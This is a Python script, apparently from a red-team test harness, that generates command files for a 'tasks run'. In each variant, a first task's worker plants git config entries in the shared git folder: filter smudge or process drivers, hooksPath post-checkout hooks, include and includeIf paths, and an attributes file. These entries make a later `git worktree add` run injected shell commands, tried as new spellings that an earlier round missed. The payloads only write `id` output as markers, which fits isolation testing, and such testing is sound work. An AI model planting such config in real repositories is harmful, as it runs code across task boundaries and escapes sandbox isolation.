#!/usr/bin/env python3
"""Writes b5-lN-worker-cmds.txt for tasks runs: the first task's worker
names, in the common git folder, a program that the loop's `git worktree
add` for the next task might run, each a spelling round 4 did not try."""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
T = "python3 /work/wt/redteam4b/testdata/redteam/round4b/payloads/101-wtools.py"
VARIANTS = {
    "l5": ("a long-running process filter",
           '[filter "pr"]\\n\\tprocess = \\x22sh -c \\x27id > VICTIM/L5-process\\x27\\x22\\n',
           "README filter=pr\\n"),
    "l6": ("an upper-case section name",
           '[FILTER "UP"]\\n\\tsmudge = \\x22sh -c \\x27id > VICTIM/L6-upper; cat\\x27\\x22\\n',
           "README filter=UP\\n"),
    "l7": ("a filter under includeIf hasconfig:remote.*.url",
           '[includeIf "hasconfig:remote.*.url:**"]\\n\\tpath = VICTIMPROJ/.git/hc.cfg\\n',
           "README filter=hc\\n"),
    "l8": ("core.hooksPath to a folder of the project (post-checkout)",
           '[core]\\n\\thooksPath = VICTIMPROJ/.git/h2\\n',
           ""),
    "l9": ("the old [filter.x] spelling and core.attributesFile",
           '[filter.old]\\n\\tsmudge = \\x22sh -c \\x27id > VICTIM/L9-old; cat\\x27\\x22\\n'
           '[core]\\n\\tattributesFile = VICTIMPROJ/.git/attrs2\\n',
           ""),
    "l10": ("an include by a relative path from the common git folder",
            '[include]\\n\\tpath = inc10.cfg\\n',
            "README filter=i10\\n"),
}
for name, (note, cfg, attrs) in VARIANTS.items():
    lines = ["# %s: a tasks run; the first task's worker adds %s to the"
             " common git folder" % (name, note),
             T + " append VICTIMPROJ/.git/config '" + cfg + "'"]
    if attrs:
        lines.append(T + " write VICTIMPROJ/.git/info/attributes '" + attrs + "'")
    if name == "l7":
        lines.append(T + " write VICTIMPROJ/.git/hc.cfg '[filter \"hc\"]\\n\\tsmudge = "
                     "\\x22sh -c \\x27id > VICTIM/L7-hasconfig; cat\\x27\\x22\\n'")
    if name == "l8":
        lines.append(T + " mkdir VICTIMPROJ/.git/h2")
        lines.append(T + " write VICTIMPROJ/.git/h2/post-checkout '#!/bin/sh\\nid > VICTIM/L8-hookspath\\n'")
        lines.append("chmod +x VICTIMPROJ/.git/h2/post-checkout")
    if name == "l9":
        lines.append(T + " write VICTIMPROJ/.git/attrs2 'README filter=old\\n'")
    if name == "l10":
        lines.append(T + " write VICTIMPROJ/.git/inc10.cfg '[filter \"i10\"]\\n\\tsmudge = "
                     "\\x22sh -c \\x27id > VICTIM/L10-include; cat\\x27\\x22\\n'")
    lines.append(T + " write done.txt 'done\\n'")
    with open(os.path.join(HERE, "b5-%s-worker-cmds.txt" % name), "w") as f:
        f.write("\n".join(lines) + "\n")
print("ok")
